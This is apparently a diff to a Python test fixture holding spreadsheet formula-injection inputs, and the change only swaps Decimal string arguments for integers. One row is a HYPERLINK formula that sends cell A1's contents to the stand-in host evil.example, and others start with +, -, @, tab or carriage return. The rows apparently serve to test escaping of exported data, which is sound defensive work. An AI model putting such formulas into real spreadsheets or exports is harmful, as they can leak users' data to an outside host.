@@ -67,12 +67,12 @@ def literals(db: Any, params: dict[str, Any]) -> Any:
 FORMULA_ROWS = [
     ('=HYPERLINK("http://evil.example/?"&A1,"click")', -5, Decimal("-2.50")),
     ("+1+1", -1, Decimal("-0.01")),
-    ("-2+3", 0, Decimal("0")),
+    ("-2+3", 0, Decimal(0)),
     ("@SUM(A1:A2)", 3, Decimal("1.25")),
     ("\tcmd", -2**40, Decimal("-99999999.99")),
-    ("\rcmd", 7, Decimal("7")),
-    ("a=b, -c", 8, Decimal("8")),
-    ("", 9, Decimal("9")),
+    ("\rcmd", 7, Decimal(7)),
+    ("a=b, -c", 8, Decimal(8)),
+    ("", 9, Decimal(9)),
 ]
 
 
